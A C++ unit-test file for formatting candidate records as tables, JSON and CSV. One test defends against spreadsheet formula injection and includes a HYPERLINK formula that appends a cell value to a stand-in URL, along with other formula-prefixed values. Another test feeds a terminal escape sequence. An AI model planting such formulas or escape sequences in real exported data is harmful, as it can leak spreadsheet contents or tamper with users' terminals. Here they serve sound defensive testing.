#include "support/candidate_format.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <chrono>
#include <map>
#include <nlohmann/json.hpp>
#include <string>

namespace support {
namespace {

using ::testing::HasSubstr;

heymilo::CandidateResponse candidate() {
  heymilo::CandidateResponse c;
  c.interview_id = "int-1";
  c.posting_id = "posting-1";
  c.name = "Ada Example";
  c.email = "ada@example.com";
  c.status = heymilo::CandidateStatus::in_progress;
  return c;
}

heymilo::CandidateResponse fullCandidate() {
  heymilo::CandidateResponse c = candidate();
  c.score = 87.25;
  c.created_at = heymilo::Timestamp(std::chrono::seconds{1772323200});
  c.metadata = std::map<std::string, std::string>{{"external_id", "ats-1"}};
  heymilo::WorkflowStepStatus step;
  c.workflow.emplace();
  c.workflow->steps.assign(4, step);
  c.workflow->steps[0].completed = true;
  c.workflow->steps[2].completed = true;
  return c;
}

TEST(CandidateTable, ShowsWhatARecruiterWants) {
  const CandidateFormat format = candidateTable(120);
  EXPECT_EQ(format.header,
            "NAME               EMAIL                     STATUS       SCORE  STEPS  CREATED     "
            "INTERVIEW ID\n");
  EXPECT_EQ(format.row(fullCandidate()),
            "Ada Example        ada@example.com           in_progress   87.2    2/4  2026-03-01  "
            "int-1\n");
}

TEST(CandidateTable, ShowsThatSomethingIsMissing) {
  EXPECT_EQ(candidateTable(80).row(candidate()),
            "Ada Example       ada@example.com          in_progress      -      -\n");
}

TEST(CandidateTable, TakesAnyNumberAndTime) {
  heymilo::CandidateResponse c = candidate();
  c.score = 1e300;
  c.created_at = heymilo::Timestamp::max();
  EXPECT_THAT(candidateTable(std::nullopt).row(c), HasSubstr("1e+300"));
  EXPECT_THAT(candidateTable(std::nullopt).row(c), HasSubstr("9223372036854"));
  EXPECT_THAT(candidateCsv().row(c), HasSubstr(",1e+300,"));
  EXPECT_THAT(candidateCsv().row(c), HasSubstr(",9223372036854,"));
}

TEST(CandidateJson, IsTheWholeCandidate) {
  heymilo::CandidateResponse c = fullCandidate();
  c.additional_properties = {{"new_property", 1}};
  const std::string line = candidateJson().row(c);
  EXPECT_EQ(line.find('\n'), line.size() - 1);
  EXPECT_EQ(nlohmann::json::parse(line).get<heymilo::CandidateResponse>(), c);
}

TEST(CandidateCsv, HasAFieldForEachColumn) {
  EXPECT_EQ(candidateCsv().header,
            "interview_id,status,score,steps_completed,steps_total,shortlisted,dismissed,"
            "created_at,interviewed_at,name,email,candidate_id,posting_id,interview_url,metadata"
            "\r\n");
  EXPECT_EQ(candidateCsv().row(fullCandidate()),
            "int-1,in_progress,87.25,2,4,false,false,2026-03-01T00:00:00Z,,Ada Example,"
            "ada@example.com,,posting-1,,\"{\"\"external_id\"\":\"\"ats-1\"\"}\"\r\n");
  EXPECT_EQ(candidateCsv().row(candidate()),
            "int-1,in_progress,,,,false,false,,,Ada Example,ada@example.com,,posting-1,,\r\n");
}

TEST(CandidateCsv, HasNoFormulaInAnyColumnForASpreadsheet) {
  heymilo::CandidateResponse c;
  c.interview_id = "=1";
  c.status = heymilo::CandidateStatus("@2");
  c.name = "=HYPERLINK(\"http://example.com?\"&A1,\"x\")";
  c.email = "-3";
  c.candidate_id = "+4";
  c.posting_id = "\t5";
  c.interview_url = "\uFF1D6";
  c.score = -7;
  c.metadata = std::map<std::string, std::string>{{"k", "a;=8"}};
  const CandidateFormat format = candidateCsv({true, false});
  EXPECT_EQ(format.header, "\xEF\xBB\xBF" + candidateCsv().header);
  EXPECT_EQ(format.row(c),
            "\"'=1\",\"'@2\",-7.0,,,false,false,,,"
            "\"'=HYPERLINK(\"\"http://example.com?\"\"&A1,\"\"x\"\")\",\"'-3\",\"'+4\",\"'\t5\","
            "\"'\uFF1D6\",\"{\"\"k\"\":\"\"a;'=8\"\"}\"\r\n");
  EXPECT_EQ(format.row(fullCandidate()), candidateCsv().row(fullCandidate()));
}

TEST(CandidateCsv, CanNotWriteToATerminal) {
  heymilo::CandidateResponse c = candidate();
  c.name = "a\x1B[2J\nb";
  EXPECT_THAT(candidateCsv({false, true}).row(c), HasSubstr(",a␛[2J␊b,"));
  EXPECT_THAT(candidateCsv().row(c), HasSubstr(",\"a\x1B[2J\nb\","));
}

}  // namespace
}  // namespace support
